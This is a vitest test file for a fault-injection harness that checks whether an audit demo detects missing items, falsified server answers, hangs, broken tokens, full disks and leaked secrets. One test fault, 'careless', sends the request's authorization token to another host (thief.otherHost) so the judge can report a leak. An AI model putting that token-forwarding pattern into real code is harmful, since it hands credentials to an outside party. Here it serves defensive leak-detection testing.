import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Demo, startDemo } from '../../electron/demo/start.ts'
import type { Fault } from '../faults/fault.ts'
import { NEVER, TRIAL_ORGANISATION } from '../faults/index.ts'
import type { Reference } from '../faults/judgement.ts'
import { referenceOf, runTrial } from '../faults/run.ts'

const NONE: Fault = { id: 'none', says: 'nothing' }

let demo: Demo
let reference: Reference

beforeAll(async () => {
  demo = await startDemo(TRIAL_ORGANISATION)
  reference = await referenceOf(demo)
}, 120_000)
afterAll(() => demo.close())

/** The reference with other contents for some items. */
function withEvidence(changed: Iterable<readonly [string, string]>): Reference {
  return { ...reference, evidence: new Map([...reference.evidence, ...changed]) }
}

/** A server that lies and does not say so: answers in which a text is another one. */
function lying(about: RegExp, text: string, instead: string): Fault {
  return {
    id: 'lying',
    says: 'lies',
    async api(passing) {
      if (!about.test(passing.path)) return false
      const answer = await passing.truth()
      passing.pass(answer, Buffer.from(answer.body.toString('utf8').replaceAll(text, instead)))
      return true
    },
  }
}

describe('the judgement over a trial', { timeout: 200_000 }, () => {
  const trial = (fault: Fault, against = reference, longestMs?: number) =>
    runTrial(demo, fault, 'outcomes', against, longestMs)

  it('lets pass what is complete, and knows that nothing struck', async () => {
    expect(await trial(NONE)).toEqual({ outcome: 'complete', says: 'nothing is missing', struck: false })
  })

  it('finds an item that is missing without a word', async () => {
    const more = withEvidence([['releases nobody/knows', '{}']])
    expect(await trial(NONE, more)).toMatchObject({
      outcome: 'SILENT GAP',
      says: 'releases nobody/knows is missing, and nothing says so',
    })
  })

  it('finds an item that says something else than it should', async () => {
    const [key = ''] = [...reference.evidence.keys()].filter((one) => one.startsWith('releases '))
    const other = withEvidence([[key, '{}']])
    expect(await trial(NONE, other)).toMatchObject({ outcome: 'WRONG EVIDENCE' })
  })

  it('finds evidence that a server lied about', async () => {
    const told = await trial(lying(/\/releases$/, '"succeeded"', '"failed"'))
    expect(told).toMatchObject({ outcome: 'WRONG EVIDENCE', struck: true })
  })

  it('finds a secret that became evidence', async () => {
    const lie = lying(/^\/pipeline-couplings$/, '"production"', '"CANARY"')
    expect(await trial(lie)).toMatchObject({ outcome: 'WRONG EVIDENCE' })
    const couplings = [...reference.evidence].filter(([key]) => key.startsWith('pipelines-promotions '))
    const taken = couplings.map(([key, hash]) => [key, hash.replaceAll('"production"', '"CANARY"')] as const)
    expect(await trial(lie, withEvidence(taken))).toMatchObject({
      outcome: 'LEAK',
      says: expect.stringMatching(/^pipelines-promotions .* holds a secret$/),
    })
  })

  it('finds a token that went to a stranger', async () => {
    const careless: Fault = {
      id: 'careless',
      says: 'sends the token on',
      async api({ thief, request }) {
        const { authorization = '' } = request.headers
        await fetch(`http://${thief.otherHost}/x`, { headers: { authorization } })
        return false
      },
    }
    expect(await trial(careless)).toMatchObject({
      outcome: 'LEAK',
      says: expect.stringMatching(/with a token$/),
    })
  })

  it('finds a trial that does not end, and one that cannot be made good', async () => {
    const silent: Fault = { id: 'silent', says: 'answers nothing', api: () => true }
    expect(await trial(silent, reference, 300)).toMatchObject({ outcome: 'HANG' })
    const dead: Demo = { ...demo, tokens: { ...demo.tokens, auditor: 'HRKU-nobody' } }
    expect(await runTrial(dead, NONE, 'outcomes', reference)).toMatchObject({ outcome: 'BROKEN' })
  })

  it('says of a disk that did not fill up that nothing was tried', async () => {
    const wrong: Fault = {
      id: 'disk-full',
      says: 'no disk',
      local: 'disk-full',
      api: ({ response }) => {
        response.writeHead(401).end('{}')
        return true
      },
    }
    expect(await trial(wrong)).toMatchObject({ outcome: 'NOT TRIED' })
    expect(NEVER.has('NOT TRIED')).toBe(true)
  })

  it('fills a disk also where no file system may be made', async () => {
    process.env.FAULTS_WITHOUT_MOUNT = '1'
    try {
      const told = await trial({ id: 'disk-full', says: 'no disk', local: 'disk-full' })
      expect(told).toMatchObject({ outcome: 'stopped, resumed to complete' })
      expect(told.says).toMatch(/^disk-full: there is no space left/)
    } finally {
      delete process.env.FAULTS_WITHOUT_MOUNT
    }
  })
})
